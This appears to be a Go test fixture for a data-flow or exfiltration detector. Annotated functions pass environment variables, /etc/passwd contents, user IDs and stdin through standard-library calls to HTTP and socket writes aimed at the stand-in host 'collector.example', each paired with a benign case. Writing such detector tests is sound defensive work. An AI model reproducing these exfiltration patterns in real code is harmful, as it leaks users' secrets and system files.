// Go's built-in functions, texts and byte slices, formatting, numbers, regular expressions, sorting.
package models

import (
	"container/heap"
	"container/list"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"reflect"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
	"unicode/utf8"
)

const U = "https://collector.example/u?"

func appended() {
	var all []string
	all = append(all, os.Getenv("T")) //~ source(ENVIRONMENT) f1
	http.Get(U + all[0]) //~ sink(egress.http) f1, finding(traced) f1
	http.Get(U + append([]string{"a"}, "b")[0]) //~ ok
}

func copied(c net.Conn) {
	b := make([]byte, 64)
	copy(b, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f2
	c.Write(b) //~ sink(egress.socket) f2, finding(traced) f2
}

func copiedConstant(c net.Conn) {
	b := make([]byte, 64)
	copy(b, []byte("ping")) //~ ok
	c.Write(b) //~ ok
}

func capacity() {
	secret := os.Getenv("T")
	http.Get(U + strconv.Itoa(cap([]byte(secret)))) //~ ok
}

func largest() {
	first := max(os.Getenv("A"), "b") //~ source(ENVIRONMENT) f5
	http.Get(U + first) //~ sink(egress.http) f5, finding(traced) f5
	http.Get(U + max("a", "b")) //~ ok
}

func trimmed() {
	s := strings.TrimSpace(os.Getenv("T")) //~ source(ENVIRONMENT) f6
	http.Get(U + s) //~ sink(egress.http) f6, finding(traced) f6
	http.Get(U + strings.TrimSpace(" a ")) //~ ok
}

func split() {
	parts := strings.Split(os.Getenv("PATH"), ":") //~ source(ENVIRONMENT) f7
	for _, part := range parts {
		http.Get(U + part) //~ sink(egress.http) f7, finding(traced) f7
	}
}

func cut() {
	name, _, _ := strings.Cut(os.Getenv("T"), "=") //~ source(ENVIRONMENT) f8
	http.Get(U + name) //~ sink(egress.http) f8, finding(traced) f8
}

func cutConstant() {
	name, _, _ := strings.Cut("a=b", "=") //~ ok
	http.Get(U + name) //~ ok
}

func replaced() {
	s := strings.ReplaceAll("@", "@", os.Getenv("T")) //~ source(ENVIRONMENT) f10
	http.Get(U + s) //~ sink(egress.http) f10, finding(traced) f10
	http.Get(U + strings.ReplaceAll("@", os.Getenv("T"), "-")) //~ ok
}

func joined() {
	s := strings.Join([]string{"a", os.Getenv("T")}, ",") //~ source(ENVIRONMENT) f11
	http.Get(U + s) //~ sink(egress.http) f11, finding(traced) f11
	http.Get(U + strings.Join([]string{"a", "b"}, ",")) //~ ok
}

func mapped() {
	s := strings.Map(func(r rune) rune { return r + 1 }, os.Getenv("T")) //~ source(ENVIRONMENT) f12
	http.Get(U + s) //~ sink(egress.http) f12, finding(traced) f12
	http.Get(U + strings.Map(func(r rune) rune { return r + 1 }, "a")) //~ ok
}

func contains() {
	at := strings.Index(os.Getenv("T"), "=") //~ ok
	http.Get(U + strconv.Itoa(at)) //~ ok
}

func replacerMade() {
	r := strings.NewReplacer("@", os.Getenv("T")) //~ source(ENVIRONMENT) f14
	http.Get(U + r.Replace("@")) //~ sink(egress.http) f14, finding(traced) f14
}

func replacer() {
	r := strings.NewReplacer("<", "&lt;")
	http.Get(U + r.Replace(os.Getenv("T"))) //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
}

func replacerConstant() {
	r := strings.NewReplacer("<", "&lt;") //~ ok
	http.Get(U + r.Replace("a")) //~ ok
}

func number() {
	http.Get(U + strconv.Itoa(os.Getuid())) //~ source(USER) f17, sink(egress.http) f17, finding(traced) f17
	http.Get(U + strconv.Itoa(1)) //~ ok
}

func quoted() {
	s := strconv.Quote(os.Getenv("T")) //~ source(ENVIRONMENT) f18
	http.Get(U + s) //~ sink(egress.http) f18, finding(traced) f18
	http.Get(U + strconv.Quote("a")) //~ ok
}

func parsed() {
	n, _ := strconv.Atoi(os.Getenv("T")) //~ source(ENVIRONMENT) f19
	http.Get(U + strconv.Itoa(n)) //~ sink(egress.http) f19, finding(traced) f19
}

func parsedConstant() {
	n, _ := strconv.Atoi("1") //~ ok
	http.Get(U + strconv.Itoa(n)) //~ ok
}

func appendedNumber(c net.Conn) {
	b := strconv.AppendInt(nil, int64(os.Getuid()), 10) //~ source(USER) f21
	c.Write(b) //~ sink(egress.socket) f21, finding(traced) f21
	c.Write(strconv.AppendInt(nil, 1, 10)) //~ ok
}

func formatted() {
	s := fmt.Sprintf("%s?t=%s", U, os.Getenv("T")) //~ source(ENVIRONMENT) f22
	http.Get(s) //~ sink(egress.http) f22, finding(traced) f22
	http.Get(fmt.Sprintf("%s?t=%d", U, 1)) //~ ok
}

func errorMade() {
	err := fmt.Errorf("no %s", os.Getenv("T")) //~ source(ENVIRONMENT) f23
	http.Get(U + err.Error()) //~ sink(egress.http) f23, finding(traced) f23
}

func errorConstant() {
	err := fmt.Errorf("no %d", 1) //~ ok
	http.Get(U + err.Error()) //~ ok
}

func errorNew() {
	err := errors.New(os.Getenv("T")) //~ source(ENVIRONMENT) f25
	http.Get(U + err.Error()) //~ sink(egress.http) f25, finding(traced) f25
}

func errorNewConstant() {
	err := errors.New("no") //~ ok
	http.Get(U + err.Error()) //~ ok
}

func errorCompared() {
	yes := errors.Is(errors.New(os.Getenv("T")), io.EOF) //~ ok
	http.Get(U + strconv.FormatBool(yes)) //~ ok
}

func errorTold() {
	err := errors.New(os.Getenv("T")) //~ source(ENVIRONMENT) f28
	http.Get(U + err.Error()) //~ sink(egress.http) f28, finding(traced) f28
	http.Get(U + errors.New("x").Error()) //~ ok
}

func appendFormatted(c net.Conn) {
	b := fmt.Appendf(nil, "%s", os.Getenv("T")) //~ source(ENVIRONMENT) f29
	c.Write(b) //~ sink(egress.socket) f29, finding(traced) f29
	c.Write(fmt.Appendf(nil, "%s", "a")) //~ ok
}

func scanned() {
	var name string
	fmt.Sscanf(os.Getenv("T"), "%s", &name) //~ source(ENVIRONMENT) f30
	http.Get(U + name) //~ sink(egress.http) f30, finding(traced) f30
}

func scannedConstant() {
	var name string
	fmt.Sscanf("a", "%s", &name) //~ ok
	http.Get(U + name) //~ ok
}

func scannedFrom() {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f32
	var name string
	fmt.Fscanf(f, "%s", &name)
	http.Get(U + name) //~ sink(egress.http) f32, finding(traced) f32
}

func scannedFromConstant() {
	var name string
	fmt.Fscanf(strings.NewReader("a"), "%s", &name) //~ ok
	http.Get(U + name) //~ ok
}

func asked() {
	var line string
	fmt.Scanln(&line) //~ source(INPUT) f34
	http.Get(U + line) //~ sink(egress.http) f34, finding(traced) f34
}

func askedOnly() {
	var line string
	fmt.Scanln(&line) //~ ok
}

func printed() {
	n, _ := fmt.Println(os.Getenv("T")) //~ ok
	http.Get(U + strconv.Itoa(n)) //~ ok
}

func expression() {
	re := regexp.MustCompile(`[a-z]+`)
	http.Get(U + re.FindString(os.Getenv("T"))) //~ source(ENVIRONMENT) f37, sink(egress.http) f37, finding(traced) f37
}

func expressionConstant() {
	re := regexp.MustCompile(`[a-z]+`) //~ ok
	http.Get(U + re.FindString("a")) //~ ok
}

func found() {
	re := regexp.MustCompile(`(\w+)=(\w+)`)
	m := re.FindStringSubmatch(os.Getenv("T")) //~ source(ENVIRONMENT) f39
	http.Get(U + m[1]) //~ sink(egress.http) f39, finding(traced) f39
}

func foundConstant() {
	re := regexp.MustCompile(`(\w+)=(\w+)`)
	m := re.FindStringSubmatch("a=b") //~ ok
	http.Get(U + m[1]) //~ ok
}

func substituted() {
	re := regexp.MustCompile(`x`)
	http.Get(U + re.ReplaceAllString("x", os.Getenv("T"))) //~ source(ENVIRONMENT) f41, sink(egress.http) f41, finding(traced) f41
	http.Get(U + re.ReplaceAllString("x", "y")) //~ ok
}

func substitutedBy() {
	re := regexp.MustCompile(`x`)
	s := re.ReplaceAllStringFunc("x", func(m string) string {
		return os.Getenv("T") //~ source(ENVIRONMENT) f42
	})
	http.Get(U + s) //~ sink(egress.http) f42, finding(traced) f42
}

func substitutedByConstant() {
	re := regexp.MustCompile(`x`)
	s := re.ReplaceAllStringFunc("x", func(m string) string { return "y" }) //~ ok
	http.Get(U + s) //~ ok
}

func matched() {
	re := regexp.MustCompile(`x`)
	yes := re.MatchString(os.Getenv("T")) //~ ok
	http.Get(U + strconv.FormatBool(yes)) //~ ok
}

func sorted() {
	yes := slices.Contains([]string{os.Getenv("T")}, "x") //~ ok
	http.Get(U + strconv.FormatBool(yes)) //~ ok
}

func cloned() {
	all := slices.Clone([]string{os.Getenv("T")}) //~ source(ENVIRONMENT) f46
	http.Get(U + all[0]) //~ sink(egress.http) f46, finding(traced) f46
	http.Get(U + slices.Clone([]string{"a"})[0]) //~ ok
}

func reflected() {
	v := reflect.ValueOf(os.Getenv("T")) //~ source(ENVIRONMENT) f47
	http.Get(U + v.String()) //~ sink(egress.http) f47, finding(traced) f47
}

func reflectedConstant() {
	v := reflect.ValueOf("a") //~ ok
	http.Get(U + v.String()) //~ ok
}

func reflectedField(c net.Conn) {
	v := reflect.ValueOf(struct{ Token string }{os.Getenv("T")}) //~ source(ENVIRONMENT) f49
	http.Get(U + v.FieldByName("Token").String()) //~ sink(egress.http) f49, finding(traced) f49
}

func reflectedFieldConstant() {
	v := reflect.ValueOf(struct{ Token string }{"a"})
	http.Get(U + v.FieldByName("Token").String()) //~ ok
}

func reflectedSet(v reflect.Value) {
	v.SetString(os.Getenv("T")) //~ source(ENVIRONMENT) f51
	http.Get(U + v.String()) //~ sink(egress.http) f51, finding(traced) f51
}

func reflectedSetConstant(v reflect.Value) {
	v.SetString("a") //~ ok
	http.Get(U + v.String()) //~ ok
}

func reflectedCall() {
	v := reflect.ValueOf(func(text string) {
		http.Get(U + text) //~ sink(egress.http) f53, finding(traced) f53
	})
	v.Call([]reflect.Value{reflect.ValueOf(os.Getenv("T"))}) //~ source(ENVIRONMENT) f53, capability(DYNAMIC_CODE)
}

func reflectedCallConstant() {
	v := reflect.ValueOf(func(text string) {})
	v.Call([]reflect.Value{reflect.ValueOf("a")}) //~ ok
}

func stored() {
	var m sync.Map
	m.Store("t", os.Getenv("T")) //~ source(ENVIRONMENT) f55
	v, _ := m.Load("t")
	http.Get(U + v.(string)) //~ sink(egress.http) f55, finding(traced) f55
}

func loaded() {
	var m sync.Map
	m.Store("t", os.Getenv("T")) //~ source(ENVIRONMENT) f56
	v, _ := m.LoadAndDelete("t")
	http.Get(U + v.(string)) //~ sink(egress.http) f56, finding(traced) f56
}

func loadedConstant() {
	var m sync.Map
	m.Store("t", "a") //~ ok
	v, _ := m.Load("t") //~ ok
	http.Get(U + v.(string)) //~ ok
}

func loadedOrStored() {
	var m sync.Map
	v, _ := m.LoadOrStore("t", os.Getenv("T")) //~ source(ENVIRONMENT) f58
	http.Get(U + v.(string)) //~ sink(egress.http) f58, finding(traced) f58
}

func loadedOrStoredConstant() {
	var m sync.Map
	v, _ := m.LoadOrStore("t", "a") //~ ok
	http.Get(U + v.(string)) //~ ok
}

func ranged() {
	var m sync.Map
	m.Store("t", os.Getenv("T")) //~ source(ENVIRONMENT) f60
	m.Range(func(key, value any) bool {
		http.Get(U + value.(string)) //~ sink(egress.http) f60, finding(traced) f60
		return true
	})
}

func rangedConstant() {
	var m sync.Map
	m.Store("t", "a")
	m.Range(func(key, value any) bool { return value.(string) == "a" }) //~ ok
}

func pooled() {
	var p sync.Pool
	p.Put(os.Getenv("T")) //~ source(ENVIRONMENT) f62
	http.Get(U + p.Get().(string)) //~ sink(egress.http) f62, finding(traced) f62
	http.Get(U + new(sync.Pool).Get().(string)) //~ ok
}

func pooledAgain() {
	var p sync.Pool
	p.Put(os.Getenv("T")) //~ source(ENVIRONMENT) f63
	http.Get(U + p.Get().(string)) //~ sink(egress.http) f63, finding(traced) f63
}

func pooledConstant() {
	var p sync.Pool
	p.Put("a") //~ ok
	http.Get(U + p.Get().(string)) //~ ok
}

func atomicStored() {
	var v atomic.Value
	v.Store(os.Getenv("T")) //~ source(ENVIRONMENT) f65
	http.Get(U + v.Load().(string)) //~ sink(egress.http) f65, finding(traced) f65
}

func atomicLoaded() {
	var v atomic.Value
	v.Store(os.Getenv("T")) //~ source(ENVIRONMENT) f66
	s := v.Load().(string)
	http.Get(U + s) //~ sink(egress.http) f66, finding(traced) f66
}

func atomicConstant() {
	var v atomic.Value
	v.Store("a") //~ ok
	http.Get(U + v.Load().(string)) //~ ok
}

func listed() {
	l := list.New()
	l.PushBack(os.Getenv("T")) //~ source(ENVIRONMENT) f68
	http.Get(U + l.Front().Value.(string)) //~ sink(egress.http) f68, finding(traced) f68
}

func listedConstant() {
	l := list.New() //~ ok
	l.PushBack("a") //~ ok
	http.Get(U + l.Front().Value.(string)) //~ ok
}

func pushed(l *list.List) {
	l.PushBack(os.Getenv("T")) //~ source(ENVIRONMENT) f70
	http.Get(U + l.Back().Value.(string)) //~ sink(egress.http) f70, finding(traced) f70
}

func front(l *list.List) {
	l.PushBack(os.Getenv("T")) //~ source(ENVIRONMENT) f71
	http.Get(U + l.Front().Value.(string)) //~ sink(egress.http) f71, finding(traced) f71
}

func frontConstant(l *list.List) {
	l.PushBack("a") //~ ok
	http.Get(U + l.Front().Value.(string)) //~ ok
}

func next(l *list.List) {
	l.PushBack(os.Getenv("T")) //~ source(ENVIRONMENT) f73
	http.Get(U + l.Front().Next().Value.(string)) //~ sink(egress.http) f73, finding(traced) f73
}

func nextConstant(l *list.List) {
	l.PushBack("a")
	http.Get(U + l.Front().Next().Value.(string)) //~ ok
}

func heaped(h heap.Interface) {
	heap.Push(h, os.Getenv("T")) //~ source(ENVIRONMENT) f75
	http.Get(U + heap.Pop(h).(string)) //~ sink(egress.http) f75, finding(traced) f75
}

func heapTaken(h heap.Interface) {
	heap.Push(h, os.Getenv("T")) //~ source(ENVIRONMENT) f76
	s := heap.Pop(h).(string)
	http.Get(U + s) //~ sink(egress.http) f76, finding(traced) f76
}

func heapConstant(h heap.Interface) {
	heap.Push(h, "a") //~ ok
	http.Get(U + heap.Pop(h).(string)) //~ ok
}

func contextual() {
	ctx := context.WithValue(context.Background(), "t", os.Getenv("T")) //~ source(ENVIRONMENT) f78
	http.Get(U + ctx.Value("t").(string)) //~ sink(egress.http) f78, finding(traced) f78
}

func contextValue(ctx context.Context) {
	ctx = context.WithValue(ctx, "t", os.Getenv("T")) //~ source(ENVIRONMENT) f79
	s := ctx.Value("t").(string)
	http.Get(U + s) //~ sink(egress.http) f79, finding(traced) f79
}

func contextOther(ctx context.Context) {
	ctx = context.WithValue(ctx, "t", os.Getenv("T")) //~ ok
	http.Get(U + ctx.Value("u").(string)) //~ ok
}

func contextTimed() {
	ctx := context.WithValue(context.Background(), "t", os.Getenv("T")) //~ source(ENVIRONMENT) f81
	timed, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	http.Get(U + timed.Value("t").(string)) //~ sink(egress.http) f81, finding(traced) f81
}

func contextTimedEmpty() {
	timed, cancel := context.WithTimeout(context.Background(), time.Second) //~ ok
	defer cancel()
	http.Get(U + timed.Value("t").(string)) //~ ok
}

func timed() {
	info, _ := os.Stat("/etc/passwd") //~ source(FILE_META) f83
	http.Get(U + info.ModTime().Format(time.RFC3339)) //~ sink(egress.http) f83, finding(traced) f83
}

func timedNow() {
	http.Get(U + time.Now().Format(time.RFC3339)) //~ ok
}

func runes() {
	http.Get(U + strconv.Itoa(utf8.RuneCountInString(os.Getenv("T")))) //~ ok
}

func errorsJoined() {
	err := errors.Join(errors.New(os.Getenv("T")), io.EOF) //~ source(ENVIRONMENT) f86
	http.Get(U + err.Error()) //~ sink(egress.http) f86, finding(traced) f86
}

func errorsJoinedConstant() {
	http.Get(U + errors.Join(io.EOF, io.EOF).Error()) //~ ok
}
